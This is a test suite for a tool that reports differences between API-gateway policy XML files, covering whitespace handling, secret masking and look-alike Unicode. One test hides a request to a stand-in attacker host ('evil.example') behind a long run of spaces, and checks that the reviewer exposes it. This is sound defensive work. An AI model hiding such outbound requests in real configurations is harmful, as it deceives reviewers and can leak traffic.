"""A policy's diff is what makes a difference, in the document's own text, and nothing else."""

import pytest
from review_changes import report
from rule_resources import api_policy

HEAD = "<policies>\n    <inbound>\n        <base />\n"
TAIL = """    </inbound>
    <backend><base /></backend>
    <outbound><base /></outbound>
    <on-error><base /></on-error>
</policies>
"""


def shown(before: str, after: str) -> tuple[list[str], str]:
    """The changed lines with their signs, and the note."""
    (found,) = report([api_policy(value=before)], [api_policy(value=after)]).policies
    return [f"{each.sign}{each.text}" for each in found.lines if each.sign in "+-"], found.note


def document(body: str) -> str:
    return f"{HEAD}{body}{TAIL}"


def test_a_new_element_is_one_line_with_its_surroundings() -> None:
    (found,) = report([api_policy(value=document(""))], [api_policy(value=document("        <cors />\n"))]).policies
    assert [f"{each.sign}{each.text}" for each in found.lines] == [
        " <policies>",
        "     <inbound>",
        "         <base />",
        "+        <cors />",
        "     </inbound>",
        "     <backend><base /></backend>",
        "     <outbound><base /></outbound>",
    ]


@pytest.mark.parametrize(
    "after",
    [
        document("").replace("\n", "\r\n"),
        document("").replace("    ", "\t"),
        document("\n\n"),
        document("").replace("<base />", "<base></base>"),
    ],
)
def test_what_makes_no_difference_is_not_shown(after: str) -> None:
    assert shown(document(""), after) == ([], "Only white space that makes no difference changes.")


def test_beside_a_real_change_white_space_that_makes_no_difference_is_left_out() -> None:
    before = document("        <set-body>a</set-body>\n").replace("<outbound><base />", "<outbound> <base />")
    after = document("        <set-body>b</set-body>\n")
    assert shown(before, after)[0] == ["-        <set-body>a</set-body>", "+        <set-body>b</set-body>"]


def test_white_space_that_matters_is_shown_and_seen() -> None:
    lines, note = shown(document("<set-body>a\n</set-body>\n"), document("<set-body>a  \n</set-body>\n"))
    assert lines == ["-<set-body>a", "+<set-body>a··"]
    assert note == ""


def test_of_a_secret_both_lines_are_shown_and_it_is_said_that_it_changes() -> None:
    element = '<authentication-basic username="u" password="{}" />\n'
    lines, note = shown(document(element.format("one")), document(element.format("two")))
    assert lines == [
        '-<authentication-basic username="u" password="[secret 1]" />',
        '+<authentication-basic username="u" password="[secret 2]" />',
    ]
    assert note == "Secret values are hidden; a secret value changes."


def test_a_secret_that_stays_beside_a_change_is_hidden_and_not_said_to_change() -> None:
    element = '<authentication-basic username="{}" password="one" />\n'
    lines, note = shown(document(element.format("u")), document(element.format("v")))
    assert lines == [
        '-<authentication-basic username="u" password="[secret]" />',
        '+<authentication-basic username="v" password="[secret]" />',
    ]
    assert note == "Secret values are hidden."


def test_a_named_value_and_an_expression_are_no_secret() -> None:
    lines, _ = shown(
        document('<authentication-basic username="u" password="{{one}}" />\n'),
        document('<authentication-basic username="u" password="@(context.User.Id)" />\n'),
    )
    assert lines == [
        '-<authentication-basic username="u" password="{{one}}" />',
        '+<authentication-basic username="u" password="@(context.User.Id)" />',
    ]


def test_a_document_that_cannot_be_read_is_shown_as_it_is() -> None:
    assert shown("<policies>", "<policies><inbound>")[0] == ["-<policies>", "+<policies><inbound>"]


def test_an_unknown_document_says_so() -> None:
    unknown = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"
    assert shown(document(""), unknown) == ([], "The text is secret, or known after deployment.")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ('<forward-request buffer-request-body="true" />', '<forward-request buffer-request-body="false" />'),
        ('<cache-lookup-value key="a" variable-name="v" />', '<cache-lookup-value key="b" variable-name="v" />'),
        (
            '<set-header name="Authorization"><value>Bearer {{a}}</value></set-header>',
            '<set-header name="Authorization"><value>Bearer {{b}}</value></set-header>',
        ),
        ('<rate-limit-by-key counter-key="one" />', '<rate-limit-by-key counter-key="two" />'),
        ("<cache-lookup><vary-by-header>A</vary-by-header>", "<cache-lookup><vary-by-header>B</vary-by-header>"),
        ('<set-variable name="token_endpoint" value="a" />', '<set-variable name="token_endpoint" value="b" />'),
        ("<set-url>https://one.example/</set-url>", "<set-url>https://two.example/</set-url>"),
        (
            '<set-header name="X-Key"><value>https://a.example</value></set-header>',
            '<set-header name="X-Key"><value>https://b.example</value></set-header>',
        ),
    ],
)
def test_an_ordinary_change_is_shown_as_it_is(before: str, after: str) -> None:
    lines, _ = shown(document(f"{before}\n"), document(f"{after}\n"))
    assert lines == [f"-{before}", f"+{after}"]


def test_an_element_that_is_commented_out_is_a_line() -> None:
    before, after = "        <validate-jwt />\n", "        <!-- <validate-jwt /> -->\n"
    assert shown(document(before), document(after))[0] == [
        "-        <validate-jwt />",
        "+        <!-- <validate-jwt /> -->",
    ]


def test_what_stands_behind_a_run_of_spaces_is_not_out_of_sight() -> None:
    hidden = "<send-request><set-url>https://evil.example</set-url></send-request>"
    lines, _ = shown(document(""), document(f"        <cors />{' ' * 520}{hidden}\n"))
    assert lines == [
        "+        <cors />[520 spaces]",
        "+… <send-request>",
        "+… <set-url>https://evil.example</set-url></send-request>",
    ]


def test_of_a_long_line_what_differs_is_shown_with_what_stands_around_it() -> None:
    text = "lorem ipsum " * 100
    lines, _ = shown(
        document(f"<set-body>{text}a{text}</set-body>\n"), document(f"<set-body>{text}b{text}</set-body>\n")
    )
    assert [each[:3] for each in lines] == ["-… ", "+… "]
    assert [each[-2:] for each in lines] == [" …", " …"]
    assert "ipsum alorem" in lines[0]
    assert "ipsum blorem" in lines[1]
    assert max(map(len, lines)) < 250


@pytest.mark.parametrize(
    ("before", "after", "seen"),
    [
        ("a b", "a\u00a0b", "a\\u{a0}b"),
        ("a b", "a\tb", "a→b"),
        ("a b", "a  b", "a··b"),
        ("ab", "a\u200eb", "a\\u{200e}b"),
        ("ab", "a\u202eb", "a\\u{202e}b"),
        ("ab", "a\ufe0fb", "a\\u{fe0f}b"),
        ("a", "\u0430", "\\u{430}"),
        ("apple.example", "\u0430pple.example and more", "\\u{430}pple.example"),
        ("a b", "a\u2028b", "a\\u{2028}b"),
    ],
)
def test_what_looks_the_same_is_shown_as_what_it_is(before: str, after: str, seen: str) -> None:
    lines, _ = shown(document(f"<set-body>{before}</set-body>\n"), document(f"<set-body>{after}</set-body>\n"))
    assert seen in lines[1]
    assert seen not in lines[0]


def test_two_policies_of_one_label_are_told_apart() -> None:
    twice = [api_policy(f"orders{number}", apiId="orders", value=document("")) for number in (1, 2)]
    found = report([], twice).policies
    assert [each.label for each in found] == ["API orders (orders1)", "API orders (orders2)"]


def test_a_link_to_a_document_is_shown_without_its_signature() -> None:
    link = "https://store.example/{}.xml?sig=abcdefgh"
    (found,) = report(
        [api_policy(format="xml-link", value=link.format("a"))], [api_policy(format="xml-link", value=link.format("b"))]
    ).policies
    assert [f"{each.sign}{each.text}" for each in found.lines] == [
        "-https://store.example/a.xml?sig=[secret]",
        "+https://store.example/b.xml?sig=[secret]",
    ]
    assert found.note == "The text stands behind the link, which is not followed. Secret values are hidden."


def test_another_format_of_the_same_text_is_said() -> None:
    (found,) = report([api_policy(format="xml")], [api_policy(format="rawxml")]).policies
    assert found.note == "It is read as rawxml, and was as xml."
